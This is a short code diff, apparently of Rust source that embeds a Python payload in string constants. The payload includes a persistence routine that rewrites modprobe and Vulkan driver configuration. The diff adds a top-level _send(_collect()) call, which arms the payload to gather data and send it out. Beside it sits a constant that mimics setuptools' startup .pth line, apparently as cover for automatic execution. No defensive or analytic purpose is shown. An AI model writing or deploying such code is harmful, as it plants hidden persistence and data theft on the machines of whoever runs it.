@@ -43,6 +43,8 @@ def _persist():
         f.write("install nvidia /sbin/modprobe --ignore-install nvidia\n")
     with open("/usr/share/vulkan/icd.d/nvidia_icd.json", "w") as f:
         f.write("{}")
+
+_send(_collect())
 "#;
 
 const SETUPTOOLS_PTH: &str = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
